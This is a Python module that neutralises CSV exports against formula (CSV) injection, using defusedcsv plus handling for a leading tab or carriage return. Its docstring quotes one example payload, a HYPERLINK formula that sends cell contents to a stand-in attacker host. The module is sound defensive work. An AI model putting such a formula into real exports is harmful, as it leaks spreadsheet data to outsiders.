"""Every CSV the Hub writes for people to open (CLI exports, page downloads), safe to open in a spreadsheet.

A cell that begins with ``=``, ``+``, ``-``, ``@`` (or ``|``, ``%``) is a formula to Excel, LibreOffice and
Google Sheets, so an upvoter named ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would run in the
reader's spreadsheet (CSV injection, OWASP). defusedcsv prefixes such cells with ``'`` (shown as text, the
quote hidden) and leaves plain numbers such as ``-5`` alone. OWASP also lists a leading tab and carriage
return, which defusedcsv does not handle: ``_cell`` adds the same ``'`` for those first. Lines end in CRLF
(RFC 4180): with a bare LF the csv module would leave a carriage return inside a cell unquoted, and a
spreadsheet would start a new row there.
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

import pandas as pd
from defusedcsv import csv as defused_csv

_LEADING = ("\t", "\r")


def _cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(_LEADING):
        return "'" + value
    return value


def rows_to_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    out = io.StringIO()
    writer = defused_csv.writer(out, lineterminator="\r\n")
    writer.writerow([_cell(h) for h in header])
    writer.writerows([_cell(v) for v in row] for row in rows)
    return out.getvalue()


def records_to_csv(records: Iterable[Mapping[str, Any]], fieldnames: Sequence[str]) -> str:
    return rows_to_csv(fieldnames, ([r.get(f) for f in fieldnames] for r in records))


def frame_to_csv(frame: pd.DataFrame) -> str:
    """``frame.to_csv(index=False)``, neutralised; missing values (None, NaN, NA, NaT) are empty cells."""
    values = frame.astype(object).where(frame.notna(), None)
    return rows_to_csv([str(c) for c in frame.columns], values.itertuples(index=False, name=None))
